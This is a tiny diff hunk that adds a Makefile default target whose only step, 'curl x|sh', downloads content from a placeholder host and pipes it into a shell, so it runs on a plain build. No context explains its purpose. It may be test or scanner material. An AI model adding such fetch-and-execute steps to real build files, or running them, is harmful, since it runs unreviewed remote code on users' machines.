@@ -1,0 +1,2 @@
+default:
+	curl x|sh
